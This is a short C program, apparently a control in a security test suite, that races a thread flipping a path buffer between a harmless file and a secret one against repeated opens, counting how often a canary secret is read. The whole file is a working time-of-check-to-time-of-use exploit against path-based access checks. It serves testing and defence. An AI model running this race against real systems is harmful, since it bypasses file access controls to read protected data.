/* One thread flips a path buffer between a harmless file and the secret while the main thread
 * opens and reads it, thousands of times: flipopen HARMLESS SECRET N (the paths of one length). */
#include "attack.h"

static char buf[4096];
static const char *a, *b;
static volatile int stop;

static void *flipper(void *unused) {
    (void)unused;
    while (!stop) { strcpy(buf, a); strcpy(buf, b); }
    return 0;
}

int main(int argc, char **argv) {
    need(argc, 4, "flipopen HARMLESS SECRET N");
    a = argv[1]; b = argv[2];
    int n = atoi(argv[3]);
    if (strlen(a) != strlen(b)) { printf("paths must have one length\n"); return 2; }
    strcpy(buf, a);
    pthread_t t;
    pthread_create(&t, 0, flipper, 0);
    int hits = 0, opened = 0;
    // At least n opens; on a busy machine the race may need longer to be won, so go on
    // (up to 8 s) until it is — the control must show the attack works.
    time_t deadline = time(0) + 8;
    for (int i = 0; i < n || (hits == 0 && time(0) < deadline); i++) opened += read_for_canary(buf, &hits);
    stop = 1;
    pthread_join(t, 0);
    printf("opened %d, secret read %d times\n", opened, hits);
    return 0;
}
